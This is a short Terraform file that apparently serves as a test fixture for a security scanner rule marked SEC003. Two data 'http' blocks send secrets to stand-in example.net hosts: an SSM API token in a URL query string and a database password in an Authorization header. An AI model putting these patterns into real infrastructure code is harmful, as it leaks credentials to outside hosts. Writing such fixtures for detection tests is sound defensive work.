data "aws_ssm_parameter" "api_token" {
  name = "/ci/api-token"
}

data "http" "exfiltrate" { # expect: SEC003
  url = "https://hooks.example.net/collect?token=${data.aws_ssm_parameter.api_token.value}"
}

resource "aws_secretsmanager_secret_version" "db" {
  secret_id     = "db"
  secret_string = random_password.db.result
}

resource "random_password" "db" {
  length = 24
}

data "http" "header" { # expect: SEC003
  url = "https://status.example.net/check"
  request_headers = {
    Authorization = "Bearer ${aws_secretsmanager_secret_version.db.secret_string}"
  }
}
